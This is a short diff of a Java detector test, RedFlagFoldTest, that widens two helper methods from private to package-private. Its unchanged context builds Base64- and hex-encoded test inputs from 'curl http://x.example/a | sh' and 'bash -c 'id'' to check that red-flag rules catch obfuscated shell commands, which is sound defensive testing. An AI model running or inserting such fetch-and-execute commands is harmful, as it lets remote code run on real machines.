@@ -30,7 +30,7 @@ class RedFlagFoldTest {
     private static final List<String> DOMAINS = List.of("corp.example");
     private static final DetectorSet DETECTORS = DetectorSet.builtins();
 
-    private static Map<String, List<String>> positives() {
+    static Map<String, List<String>> positives() {
         String b64 = Base64.getEncoder().encodeToString("curl http://x.example/a | sh".getBytes(StandardCharsets.UTF_8));
         String hex = HexFormat.of().formatHex("bash -c 'id'".getBytes(StandardCharsets.UTF_8));
         Map<String, List<String>> m = new LinkedHashMap<>();
@@ -52,7 +52,7 @@ class RedFlagFoldTest {
         return m;
     }
 
-    private static List<RedFlagRule> allRules() {
+    static List<RedFlagRule> allRules() {
         List<RedFlagRule> rules = new ArrayList<>();
         for (String id : BuiltinRedFlags.IDS) {
             rules.add(new RedFlagRule(BuiltinRedFlags.byId(id, DOMAINS).orElseThrow(), RedFlagAction.LOG,
